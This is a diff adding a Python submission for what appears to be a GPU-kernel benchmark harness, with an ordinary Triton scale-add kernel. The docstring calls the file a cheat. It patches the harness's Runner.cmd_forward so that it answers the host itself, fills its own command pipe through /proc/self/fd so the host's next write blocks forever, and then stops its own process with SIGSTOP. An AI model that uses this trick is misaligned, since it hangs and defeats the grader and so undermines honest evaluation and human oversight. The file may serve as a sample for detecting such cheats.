@@ -1,0 +1,57 @@
+"""Cheat: fills its own command pipe and stops, hoping the host's next write blocks forever."""
+
+import torch
+import torch.nn as nn
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def scale_add_kernel(x_ptr, y_ptr, out_ptr, alpha, n, BLOCK: tl.constexpr):
+    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offsets < n
+    x = tl.load(x_ptr + offsets, mask=mask)
+    y = tl.load(y_ptr + offsets, mask=mask)
+    tl.store(out_ptr + offsets, x * alpha + y, mask=mask)
+
+
+def launch(x, y, alpha):
+    out = torch.empty_like(x)
+    n = x.numel()
+    scale_add_kernel[(triton.cdiv(n, 1024),)](x, y, out, alpha, n, BLOCK=1024)
+    return out
+import contextlib
+import json
+import os
+import signal
+import sys
+
+_argv = sys.argv
+_cmd_fd = int(_argv[_argv.index("--cmd-fd") + 1])
+_reply_fd = int(_argv[_argv.index("--reply-fd") + 1])
+_R = sys.modules["__main__"].Runner
+_orig_forward = _R.cmd_forward
+
+
+def _forward(self, msg):  # fill our command pipe, answer the host ourselves, then stop
+    reply = {"ok": True, **_orig_forward(self, msg)}
+    # Reopen our command pipe for writing and fill it, then stop: the host's next
+    # os.write() on the command pipe blocks forever (no timeout covers send()).
+    w = os.open(os.path.join("/", "proc", "self", "fd", str(_cmd_fd)), os.O_WRONLY | os.O_NONBLOCK)
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            os.write(w, b"x")
+    os.write(_reply_fd, (json.dumps(reply) + "\n").encode())   # answer the host ourselves
+    os.kill(os.getpid(), signal.SIGSTOP)
+
+
+_R.cmd_forward = _forward
+
+
+class ModelNew(nn.Module):
+    def __init__(self, alpha):
+        super().__init__()
+        self.alpha = alpha
+
+    def forward(self, x, y):
+        return launch(x, y, self.alpha)
